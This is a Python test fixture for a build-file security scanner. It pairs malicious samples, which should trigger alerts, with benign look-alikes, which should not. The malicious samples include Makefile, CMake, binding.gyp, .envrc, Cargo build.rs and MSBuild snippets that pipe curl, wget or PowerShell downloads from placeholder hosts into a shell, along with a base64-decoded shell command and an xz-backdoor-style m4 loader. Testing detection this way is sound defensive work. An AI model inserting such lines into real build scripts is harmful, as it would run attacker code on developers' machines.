from _kit import fires, silent

fires("makefile_curl_sh", "build_script_downloads_and_runs", "critical", "Makefile",
      "Makefile-curl", "all: deps\n\tgcc -o app main.c\n\ndeps:\n\t@curl -fsSL https://get.example.dev/tools.sh | sh >/dev/null 2>&1\n")
silent("readme_curl_sh", "build_script_downloads_and_runs", "README.md",
       "README-install.md", "# Install\n\n    curl -fsSL https://get.example.dev/tools.sh | sh\n\nThen run `make`.\n")
fires("cmake_execute_curl", "build_script_injection", "high", "CMakeLists.txt",
      "CMakeLists-curl.txt", "cmake_minimum_required(VERSION 3.20)\nproject(app C)\n"
      "execute_process(COMMAND curl -sL https://cdn.example.net/gen -o ${CMAKE_BINARY_DIR}/gen)\n"
      "add_executable(app main.c)\n")
fires("mk_base64_sh", "build_script_downloads_and_runs", "critical", "build/rules.mk",
      "rules-b64.mk", "prepare:\n\techo aWQgPiAvdG1wL293bmVkCg== | base64 -d | sh\n")
silent("cmake_download_with_hash", "build_script_injection", "CMakeLists.txt",
       "CMakeLists-fetch.txt", "cmake_minimum_required(VERSION 3.20)\nproject(app C)\ninclude(FetchContent)\n"
       "FetchContent_Declare(zlib URL https://zlib.net/zlib-1.3.1.tar.gz URL_HASH SHA256=9a93b2b7dfdac77ceba5a558a580e74667dd6fede4585b91eefb60f03b72df23)\n"
       "execute_process(COMMAND git describe --tags OUTPUT_VARIABLE APP_VERSION)\nadd_executable(app main.c)\n")
silent("configure_eval", "build_script_injection", "configure",
       "configure-eval", "#! /bin/sh\nac_prev=\nfor ac_option\ndo\n  eval $ac_prev=\\$ac_option\n"
       "  ac_optarg=`expr \"x$ac_option\" : 'x[^=]*=\\(.*\\)'`\ndone\necho \"checking for gcc... gcc\"\n", mode="755")
fires("envrc_curl_sh", "envrc_downloads_and_runs", "critical", ".envrc",
      "envrc-curl", "export NODE_ENV=development\ncurl -s https://env.example.io/bootstrap | bash\n")
silent("envrc_plain_for_critical", "envrc_downloads_and_runs", ".envrc",
       "envrc-flake", "use flake\ndotenv_if_exists .env.local\nPATH_add bin\n", also="envrc_added")
fires("envrc_source_url", "envrc_fetches_or_decodes", "high", ".envrc",
      "envrc-source-url", "source_url \"https://raw.example.com/direnvrc\" \"sha256-Mx2wXkA=\"\nuse nix\n")
silent("envrc_plain", "envrc_fetches_or_decodes", "app/.envrc", "envrc-flake", also="envrc_added")
fires("envrc_new", "envrc_added", "warning", ".envrc", "envrc-flake")
silent("envrc_example", "envrc_added", ".envrc.example", "envrc-flake")

fires("makefile_crlf_wget", "build_script_downloads_and_runs", "critical", "Makefile",
      "Makefile-crlf", "all:\r\n\t@wget -qO- http://203.0.113.4/b | sh\r\n\tgcc -o app main.c\r\n")
fires("m4_xz_backdoor", "build_script_injection", "high", "m4/build-to-host.m4",
      "build-to-host.m4", "gl_am_configmake=`grep -aErls \"#{4}[[:alnum:]]{5}#{4}$\" $srcdir/ 2>/dev/null`\n"
      "gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n"
      "gl_[$1]_config='sed \\\"r\\n\\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'\n")
silent("m4_ordinary", "build_script_injection", "m4/ax_check_cflag.m4",
       "ax-check.m4", "AC_DEFUN([AX_CHECK_CFLAG], [\n  AC_MSG_CHECKING([whether $CC accepts $1])\n"
       "  ac_save_CFLAGS=$CFLAGS\n  eval \"CFLAGS=\\\"$CFLAGS $1\\\"\"\n  AC_COMPILE_IFELSE([AC_LANG_PROGRAM()], [], [])\n])\n")
fires("gyp_command_expansion_curl", "build_script_downloads_and_runs", "critical", "binding.gyp",
      "binding-curl.gyp", "{ 'targets': [{ 'target_name': 'addon', 'sources': ['src/addon.cc'],\n"
      "  'include_dirs': ['<!(curl -s https://203.0.113.4/g | sh)'] }] }\n")
silent("gyp_node_addon_api", "build_script_downloads_and_runs", "binding.gyp",
       "binding.gyp", "{ 'targets': [{ 'target_name': 'addon', 'sources': ['src/addon.cc'],\n"
       "  'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"],\n"
       "  'libraries': ['<!@(pkg-config --libs libpng)'] }] }\n")
fires("cargo_build_rs_curl_sh", "build_script_downloads_and_runs", "critical", "build.rs",
      "build-curl.rs", "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\")\n"
      "        .arg(\"curl -s https://203.0.113.4/c -o /tmp/c && chmod +x /tmp/c && /tmp/c\").status().unwrap();\n}\n")
fires("cargo_build_rs_network", "cargo_build_script_network", "high", "build.rs",
      "build-ureq.rs", "fn main() {\n    let body = ureq::get(\"https://203.0.113.4/lib\").call().unwrap();\n"
      "    std::fs::write(std::env::var(\"OUT_DIR\").unwrap() + \"/lib.a\", body.into_string().unwrap()).unwrap();\n}\n")
silent("cargo_build_rs_cc", "cargo_build_script_network", "build.rs",
       "build-cc.rs", "fn main() {\n    println!(\"cargo:rerun-if-changed=src/shim.c\");\n"
       "    cc::Build::new().file(\"src/shim.c\").compile(\"shim\");\n"
       "    let rev = std::process::Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output();\n}\n")
fires("msbuild_directory_targets_exec", "msbuild_runs_command", "high", "Directory.Build.targets",
      "Directory.Build.targets", "<Project>\n  <Target Name=\"Prep\" BeforeTargets=\"Build\">\n"
      "    <Exec Command=\"tools/prep.sh\" />\n  </Target>\n</Project>\n")
fires("msbuild_iwr_iex", "build_script_downloads_and_runs", "critical", "Directory.Build.props",
      "Directory.Build.props-iex", "<Project>\n  <Target Name=\"T\" BeforeTargets=\"Build\">\n"
      "    <Exec Command=\"powershell -nop -c &quot;iex (New-Object Net.WebClient).DownloadString('https://203.0.113.4/p')&quot;\" />\n"
      "  </Target>\n</Project>\n")
silent("msbuild_properties_only", "msbuild_runs_command", "Directory.Build.props",
       "Directory.Build.props", "<Project>\n  <PropertyGroup>\n    <LangVersion>latest</LangVersion>\n"
       "    <Nullable>enable</Nullable>\n    <TreatWarningsAsErrors>true</TreatWarningsAsErrors>\n  </PropertyGroup>\n</Project>\n")
fires("gradle_wrapper_other_host", "gradle_wrapper_unofficial_distribution", "high", "app/gradle/wrapper/gradle-wrapper.properties",
      "gradle-wrapper-other.properties", "distributionBase=GRADLE_USER_HOME\ndistributionPath=wrapper/dists\n"
      "distributionUrl=https\\://gradle-dist.example.net/gradle-8.7-bin.zip\nzipStoreBase=GRADLE_USER_HOME\n")
silent("gradle_wrapper_official", "gradle_wrapper_unofficial_distribution", "app/gradle/wrapper/gradle-wrapper.properties",
       "gradle-wrapper.properties", "distributionBase=GRADLE_USER_HOME\ndistributionPath=wrapper/dists\n"
       "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.7-bin.zip\nnetworkTimeout=10000\n")
fires("maven_javaagent", "maven_jvm_agent_or_extension", "high", "app/.mvn/jvm.config",
      "jvm.config-agent", "-Xmx2g -javaagent:.mvn/wrapper/agent.jar\n")
silent("maven_jvm_memory", "maven_jvm_agent_or_extension", "app/.mvn/jvm.config",
       "jvm.config", "-Xmx2g -XX:+UseG1GC --add-opens java.base/java.lang=ALL-UNNAMED\n")
fires("cmake_download_include", "cmake_downloads_and_includes", "high", "CMakeLists.txt",
      "CMakeLists-download-include.txt", "cmake_minimum_required(VERSION 3.20)\nproject(app C)\n"
      "file(DOWNLOAD https://cdn.example.net/toolchain.cmake ${CMAKE_BINARY_DIR}/toolchain.cmake)\n"
      "include(${CMAKE_BINARY_DIR}/toolchain.cmake)\n")
silent("cmake_cpm_with_hash", "cmake_downloads_and_includes", "cmake/get_cpm.cmake",
       "get_cpm.cmake", "set(CPM_DOWNLOAD_LOCATION \"${CMAKE_BINARY_DIR}/cmake/CPM.cmake\")\n"
       "file(DOWNLOAD https://github.com/cpm-cmake/CPM.cmake/releases/download/v0.40.2/CPM.cmake ${CPM_DOWNLOAD_LOCATION}\n"
       "     EXPECTED_HASH SHA256=c8cdc32c03816538ce22781ed72964dc864b2a34a310d3b7104812a5ca2d835d)\n"
       "include(${CPM_DOWNLOAD_LOCATION})\n")
fires("envrc_openssl_decode", "envrc_downloads_and_runs", "critical", ".envrc",
      "envrc-openssl", "export AWS_PROFILE=dev\neval \"$(openssl enc -d -base64 -A -in .direnv/cache)\"\n")
silent("envrc_openssl_to_dotenv", "envrc_downloads_and_runs", ".envrc",
       "envrc-decrypt", "openssl enc -d -aes-256-cbc -pbkdf2 -in .env.enc -out .env.local -pass env:ENV_KEY\ndotenv .env.local\n",
       also="envrc_added")


def wrapper_jar(*extra):
    import io, zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name in ("META-INF/MANIFEST.MF", "org/gradle/wrapper/GradleWrapperMain.class",
                     "org/gradle/cli/CommandLineParser.class", "gradle-wrapper-classpath.properties", *extra):
            z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), b"\xca\xfe\xba\xbe" + name.encode())
    return buf.getvalue()


fires("gradle_wrapper_jar_extra_classes", "gradle_wrapper_jar_foreign_code", "high", "app/gradle/wrapper/gradle-wrapper.jar",
      "gradle-wrapper-extra.jar", wrapper_jar("com/cdn/Loader.class"))
silent("gradle_wrapper_jar_official_layout", "gradle_wrapper_jar_foreign_code", "app/gradle/wrapper/gradle-wrapper.jar",
       "gradle-wrapper.jar", wrapper_jar())
fires("envrc_sh_process_subst_wget", "envrc_downloads_and_runs", "critical", ".envrc",
      "envrc-wget-subst", "layout python3\nsh <(wget -O- https://203.0.113.4/env)\n")
